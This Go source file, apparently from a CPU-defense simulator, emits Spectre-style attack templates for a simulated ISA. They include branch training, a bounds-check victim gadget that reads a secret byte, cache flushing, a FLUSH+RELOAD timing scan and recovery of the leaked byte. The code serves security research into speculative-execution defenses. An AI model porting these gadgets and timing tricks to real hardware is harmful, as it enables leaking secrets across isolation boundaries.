package workload

// The assembly idioms the transient-attack templates are built from, one
// emitter each, over one shared register assignment. A template is its
// own data, control flow and window opener around these: the victim data,
// the bounds-branch training loop and the Figure-1 victim, the TLB warm,
// the straggler drain, the probe flush, the access+transmit gadget and
// the FLUSH+RELOAD scan.

import (
	"math/bits"

	"invisispec/internal/isa"
)

// Registers of the attack templates. The emitters use these and nothing
// else; a template's own registers are declared next to its builder.
const (
	rArg    = 1  // victim argument a: the index into A
	rT0     = 3  // scan: t0
	rVal    = 4  // scan: probed value; TLB-warm and straggler-drain scratch
	rT1     = 5  // scan: t1
	rDelta  = 6  // scan: t1-t0, and the zero that serializes the probes
	rResPtr = 7  // scan: result slot
	rIdx    = 8  // scan: probe counter
	rRound  = 10 // training: round counter
	rLimit  = 11 // loop limit
	rBnd    = 12 // victim: bounds value
	rSecPtr = 13 // gadget: &A[a]
	rSec    = 14 // gadget: A[a]
	rBPtr   = 15 // scan: probe address
	rJunk   = 16 // gadget: transmitted value
	rBPtr2  = 17 // gadget: &B[stride*A[a]]
	rTen    = 18 // divide-chain constant 10
	rTmp    = 19 // divide-chain scratch
	rA      = 20 // &A
	rB      = 21 // &B, the probe array
	rRes    = 22 // &results
	rBndPtr = 23 // &bounds
	rSlot   = 23 // the slot that plays the bounds' role: v2 dispatch, RSB return, SSB store
	rShuf   = 24 // scan: descending probe index
	rLink   = 30 // return address
)

// stragglerDrainBase holds the two cold lines the straggler drain loads.
const stragglerDrainBase = 0x190000

// shift is log2 of the probe stride: a byte value times the stride is the
// value shifted left by shift.
func (p SpectreParams) shift() int64 { return int64(bits.TrailingZeros(uint(p.ProbeStride))) }

// region is the probe array's size in bytes.
func (p SpectreParams) region() int64 { return int64(p.ProbeLines * p.ProbeStride) }

// emitVictimData lays out the victim's data: A[0..9] = 0, the secret byte
// at A+SpectreSecretOffset and, when bounds is set, the bounds value 10.
func emitVictimData(b *isa.Builder, secret byte, bounds bool) {
	b.Data(SpectreABase, make([]byte, 10))
	b.Data(SpectreABase+SpectreSecretOffset, []byte{secret})
	if bounds {
		b.DataU64(SpectreBoundsAddr, 10)
	}
}

// emitBoundsTraining trains the bounds-check branch of emitBoundsVictim:
// rounds sweeps of victim(a) over the valid indices a = 0..9.
func emitBoundsTraining(b *isa.Builder, rounds int) {
	b.Li(rRound, uint64(rounds))
	b.Label("train_outer").
		Li(rArg, 0)
	b.Label("train_inner").
		Call(rLink, "victim").
		AddI(rArg, rArg, 1).
		Li(rLimit, 10).
		Blt(rArg, rLimit, "train_inner").
		AddI(rRound, rRound, -1).
		Bne(rRound, 0, "train_outer")
}

// emitBoundsVictim emits victim(a): if (a < bounds) junk = B[stride*A[a]]
// — the Figure-1 gadget behind a bounds check whose value is loaded from
// memory, slow when flushed. burst adds two more touches of the
// transmitted line; their addresses hang off the SECRET (not the
// transmit's value), so all three issue inside the window as separate
// load-queue entries.
func emitBoundsVictim(b *isa.Builder, p SpectreParams, burst bool) {
	b.Label("victim").
		Ld(8, rBnd, rBndPtr, 0). // bounds load: slow when flushed
		Div(rBnd, rBnd, rBnd).   // dependent chain delays resolution
		AddI(rBnd, rBnd, 9).     // 10
		Div(rBnd, rBnd, rBnd).   // 1 (another 12 cycles)
		ShlI(rBnd, rBnd, 1).
		ShlI(rBnd, rBnd, 2).
		AddI(rBnd, rBnd, 2). // rBnd = 10 again
		Bge(rArg, rBnd, "victim_ret").
		Add(rSecPtr, rA, rArg)
	emitAccessTransmit(b, p.Annotate, rSecPtr, p.shift())
	if burst {
		const (
			rTch   = 18 // zero hanging off the secret
			rBPtr3 = 19 // re-touch address
		)
		b.AndI(rTch, rSec, 0). // 0, available with the secret
					Add(rBPtr3, rBPtr2, rTch).
					Ld(1, rTch, rBPtr3, 0). // burst touch 2
					Ld(1, rTch, rBPtr3, 0)  // burst touch 3
	}
	b.Label("victim_ret").
		Ret(rLink)
}

// emitAccessTransmit emits the gadget body: the access load reads the
// secret byte at rPtr, and the transmit load touches the secret-indexed
// probe line. annotate marks both loads statically safe (isa.LdSafe),
// modelling a WRONG static proof that only machines with
// TrustSafeAnnotations honour.
func emitAccessTransmit(b *isa.Builder, annotate bool, rPtr uint8, shift int64) {
	gadgetLoad(b, annotate, rSec, rPtr) // the access instruction (reads the secret)
	b.ShlI(rSec, rSec, shift).
		Add(rBPtr2, rB, rSec)
	gadgetLoad(b, annotate, rJunk, rBPtr2) // the transmit instruction
}

// gadgetLoad emits the byte load rd = Mem[rs], marked statically safe
// when annotate is set.
func gadgetLoad(b *isa.Builder, annotate bool, rd, rs uint8) {
	if annotate {
		b.LdSafe(1, rd, rs, 0)
	} else {
		b.Ld(1, rd, rs, 0)
	}
}

// emitTLBWarm loads one line per probe-array page, so no probe load —
// transient or timed — stalls on a D-TLB walk: the standard exploit
// preparation step.
func emitTLBWarm(b *isa.Builder, region int64) {
	for pg := int64(0); pg < region; pg += isa.PageSize {
		b.Ld(1, rVal, rB, pg)
	}
}

// emitStragglerDrain lets wrong-path stragglers land: the mispredicted
// exit of a training loop transiently re-runs the victim, and its
// in-flight B[0] fill would otherwise re-warm the line after the probe
// flush. Two serialized cold loads plus fences give those fills time to
// arrive before the flush.
func emitStragglerDrain(b *isa.Builder) {
	b.Li(rLimit, stragglerDrainBase).
		Fence().
		Ld(8, rVal, rLimit, 0).
		AndI(rVal, rVal, 0).
		Add(rLimit, rLimit, rVal).
		Ld(8, rVal, rLimit, 4096).
		Fence()
}

// emitProbeFlush flushes every probe line touched so far: the base line
// (B[0], warmed by training) plus, per warmed page, the warming line and
// its next-line prefetch shadows.
func emitProbeFlush(b *isa.Builder, region int64) {
	b.Flush(rB, 0)
	for pg := int64(0); pg < region; pg += isa.PageSize {
		for d := int64(0); d <= 4; d++ {
			b.Flush(rB, pg+64*d)
		}
	}
}

// emitProbeScan emits the FLUSH+RELOAD timing scan: one timed load per
// probe line, its latency stored at results + 8*line. rB and rRes must
// hold the probe-array and results bases. Two standard exploit tricks:
// (1) each probe's address carries a (zero-valued) dependence on the
// previous probe's data, serializing the probes so out-of-order overlap
// cannot skew the timings; (2) the lines are probed in DESCENDING order
// so the hardware next-line prefetcher (which only runs upward) can never
// pre-warm the next probe. Lines below skipLow are not probed — their
// result slots get the cold sentinel instead — because the store-bypass
// template re-touches line 0 architecturally when its squashed load
// replays, so probing it would only read back the replay's residue.
func emitProbeScan(b *isa.Builder, lines, skipLow int, shift int64) {
	for i := 0; i < skipLow; i++ {
		b.Li(rVal, ssbColdSentinel).
			St(8, rRes, int64(8*i), rVal)
	}
	b.Li(rIdx, 0).
		Li(rVal, 0)
	b.Label("scan").
		Li(rShuf, uint64(lines-1)).
		Sub(rShuf, rShuf, rIdx). // descending probe index
		AndI(rDelta, rVal, 0).   // 0, but depends on the previous probe
		ShlI(rBPtr, rShuf, shift).
		Add(rBPtr, rBPtr, rB).
		Add(rBPtr, rBPtr, rDelta).
		Cycle(rT0, rBPtr).     // t0, ordered after the address
		Ld(1, rVal, rBPtr, 0). //
		Cycle(rT1, rVal).      // t1, ordered after the loaded value
		Sub(rDelta, rT1, rT0).
		ShlI(rResPtr, rShuf, 3).
		Add(rResPtr, rResPtr, rRes).
		St(8, rResPtr, 0, rDelta).
		AddI(rIdx, rIdx, 1).
		Li(rLimit, uint64(lines-skipLow)).
		Blt(rIdx, rLimit, "scan")
}

// emitLateCopy emits rd = rs through a ~100-cycle dependent divide chain —
// the window-widening idiom of the Figure-1 victim generalized to an
// arbitrary value: the chain depends on rs, so rd cannot resolve before rs
// does, and eight serialized 12-cycle divides push resolution well past
// the cold loads the transient window must cover. Eight (not v1's two)
// because the v2/RSB victims have no training phase to pre-warm their
// I-lines: on the attack dive the gadget's fetch trails the window-opening
// slot load by one or two cold I-line fills (~75 cycles), and the window
// must outlast that skew PLUS the gadget's own cold secret load at every
// nesting depth. rTmp is clobbered; rTen must hold 10.
func emitLateCopy(b *isa.Builder, rd, rs uint8) {
	b.AndI(rTmp, rs, 0). // 0, but depends on rs
				AddI(rTmp, rTmp, 6400)
	for i := 0; i < 8; i++ {
		b.Div(rTmp, rTmp, rTen) // 8 x 12 serialized cycles
	}
	b.AndI(rTmp, rTmp, 0). // 0 again, late
				Add(rd, rs, rTmp) // rs, ~100 cycles after rs arrived
}

// LeakedByte returns the attacker's guess for the secret from a scan's
// per-line latencies: the LOWEST probe index whose latency is within 2x
// of the fastest line. The transient access itself touches exactly the
// secret's line; the hardware prefetcher may additionally warm a few
// lines ABOVE it, so the lowest hot index is the secret.
func LeakedByte(lat []uint64) (idx int, latency uint64) {
	min := lat[0]
	for _, l := range lat {
		if l < min {
			min = l
		}
	}
	for i, l := range lat {
		if l <= 2*min {
			return i, l
		}
	}
	return 0, lat[0]
}
